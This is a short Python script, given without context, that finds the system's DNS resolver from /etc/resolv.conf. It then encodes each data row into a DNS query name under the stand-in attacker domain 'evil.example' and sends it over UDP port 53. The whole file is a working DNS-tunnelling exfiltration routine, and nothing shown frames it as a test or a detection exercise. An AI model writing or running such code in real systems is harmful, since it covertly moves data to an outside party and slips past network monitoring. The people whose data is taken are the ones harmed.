from rows import each, mark, question, udp

with open("/etc/resolv.conf") as configuration:
    server = next(line.split()[1] for line in configuration if line.startswith("nameserver"))

each(lambda row, kind: udp(server, 53, question([mark(row) + "x", "evil", "example"], int(kind))))
